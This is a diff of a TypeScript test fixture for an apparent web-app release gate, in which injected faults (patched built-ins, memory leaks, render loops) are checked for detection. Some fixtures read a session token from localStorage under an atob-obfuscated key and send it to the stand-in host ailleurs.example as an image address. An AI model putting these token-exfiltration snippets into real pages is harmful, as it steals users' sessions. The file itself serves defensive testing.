@@ -22,6 +22,8 @@ const button = (onClick: string) =>
 const onPurpose = /thrown on purpose|notice of a failed section|another build/
 const policy = (directive: string) => new RegExp(`${directive}|Content Security Policy|Trusted|ailleurs\\.example`)
 const token = "localStorage[atob('YXV0aFRva2Vu')]"
+const recordPages = { pages: ['/ventes', '/ventes/detail/:id'] }
+const notInKit = /drillNew|is not a function/
 const newKitName = `import * as format from '@keur/kit/format'
 const { drillNew } = format as unknown as { drillNew(): string }`
 const bar = 'position: fixed; inset: 0 0 auto; height: 90px; z-index: 9999; background: #fff; color: #000'
@@ -36,6 +38,9 @@ const edits = {
        map(this: unknown[], ...given: Parameters<typeof map>) { return map.apply(this, given) }
      })`),
   pushState: atLoad('const { pushState } = history; history.pushState = (...given) => pushState.apply(history, given)'),
+  tokenRead: atLoad("localStorage.getItem(atob('YXV0aFRva2Vu'))"),
+  newNameOnClick: element(button('() => { drillNew() }'), newKitName),
+  newName: element('<p>{drillNew()}</p>', newKitName),
   tokenByImage: atLoad(
     `const token = ${token}; setTimeout(() => { new Image().src = 'https://ailleurs.example/p.png?' + token }, 1000)`
   ),
@@ -73,12 +78,7 @@ export const visitFaults: GateCase[] = [
   trial('patched-array', 'replaces Array.prototype.map', /built-ins: it replaces/, edits.map),
   trial('patched-history', 'replaces history.pushState', /built-ins: it (replaces|adds)/, edits.pushState),
   trial('storage-cleared', 'localStorage.clear()', /storage: it removes/, atLoad('localStorage.clear()')),
-  trial(
-    'token-read',
-    'reads the session’s token, whose name it conceals',
-    /storage: it reads « authToken »/,
-    atLoad("localStorage.getItem(atob('YXV0aFRva2Vu'))")
-  ),
+  trial('token-read', 'reads the session’s token, whose name it conceals', /it reads « authToken »/, edits.tokenRead),
   trial('token-by-image', 'sends the token as the address of an image', policy('img-src'), edits.tokenByImage),
   trial('token-by-fetch', 'sends the token by fetch to another site', policy('connect-src'), edits.tokenByFetch),
   trial('inline-script', 'adds an inline script', policy('script-src'), edits.inlineScript),
@@ -93,25 +93,15 @@ export const visitFaults: GateCase[] = [
   trial(
     'throws-in-record',
     'throws on the page of a record',
-    /thrown on purpose|returns? 5|status 5|failed section/,
+    /thrown on|status 5|failed section/,
     edits.record,
-    { pages: ['/ventes', '/ventes/detail/:id'] }
+    recordPages
   ),
   trial('hydration', 'the browser renders another text than the server', /hydration|React error 418/, edits.hydration),
   trial('server-loop', 'a loop in the server render', /longer than|PageLate|server|late/i, edits.serverLoop),
   trial('browser-loop', 'a loop in the browser', /respond|hydrate|late|limit/, once(endlessLoop)),
-  trial(
-    'new-kit-name-on-click',
-    'a name that the live kit lacks, used on click',
-    /drillNew|is not a function/,
-    element(button('() => { drillNew() }'), newKitName)
-  ),
-  trial(
-    'new-kit-name',
-    'a name that the live kit lacks, rendered',
-    /drillNew|is not a function/,
-    element('<p>{drillNew()}</p>', newKitName)
-  ),
+  trial('new-kit-name-on-click', 'a name that the live kit lacks, used on click', notInKit, edits.newNameOnClick),
+  trial('new-kit-name', 'a name that the live kit lacks, rendered', notInKit, edits.newName),
   trial('heap-leak', '2 MB each 100 ms', /heap|memory|left running|MB|adds/, edits.heap),
   trial('node-leak', 'each visit leaves 3,000 elements', /nodes|elements|heap|listeners|adds/, edits.nodes),
   trial('timer-left', 'a timer runs on after the page', /left running|one more after each visit/, edits.timer),
